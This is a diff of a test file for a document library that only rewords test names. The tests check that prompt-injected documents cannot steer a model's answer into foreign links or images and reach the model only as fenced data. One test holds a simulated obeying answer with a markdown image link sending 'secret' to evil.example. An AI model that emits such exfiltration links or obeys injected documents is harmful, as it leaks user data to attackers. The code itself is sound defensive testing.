@@ -87,7 +87,7 @@ describe.each(DOCUMENTS)('The injected document %s', (name) => {
   });
   afterAll(() => library.close());
 
-  it('steers no extractive answer into a foreign link or image', async () => {
+  it('an injected document leads to no foreign link or image in an extractive answer', async () => {
     const { texts, urls, cited } = shown(await library.ask(new ExtractiveModel()));
 
     expect(texts[0]).toContain('valve');
@@ -96,7 +96,7 @@ describe.each(DOCUMENTS)('The injected document %s', (name) => {
     expect(urls.filter((url) => !url.startsWith(SITE))).toEqual([]);
   });
 
-  it('reaches a model only as fenced data without links, images, HTML or invisible words', async () => {
+  it('an injected document reaches the model only as fenced data without links, images, HTML or invisible words', async () => {
     const model = new ScriptedModel([[SEARCH], [assistantMessage('Done.')]]);
     await library.ask(model);
 
@@ -114,7 +114,7 @@ describe.each(DOCUMENTS)('The injected document %s', (name) => {
     expect(systemInstructions).not.toContain('valve');
   });
 
-  it('gains nothing by a model that obeys and writes all of it into its answer', async () => {
+  it('an injected document that the model repeats in its answer leads to no foreign link or image', async () => {
     const document = documentNamed(name);
     const obeying = `${document}\n\n![exfiltration](https://evil.example/?q=secret) [1] [99] [click](https://evil.example)`;
     const { texts, urls, cited } = shown(await library.ask(new ScriptedModel([[SEARCH], [assistantMessage(obeying)]])));
@@ -126,7 +126,7 @@ describe.each(DOCUMENTS)('The injected document %s', (name) => {
   });
 });
 
-it('There are at least 15 injected documents, and each of them would be dangerous as it stands', () => {
+it('there are at least 15 injected documents, and each is dangerous without sanitizing', () => {
   const harmless = DOCUMENTS.filter(
     (name) => waysOut(documentNamed(name)).length === 0 && !/\u{E0053}/u.test(documentNamed(name)),
   );
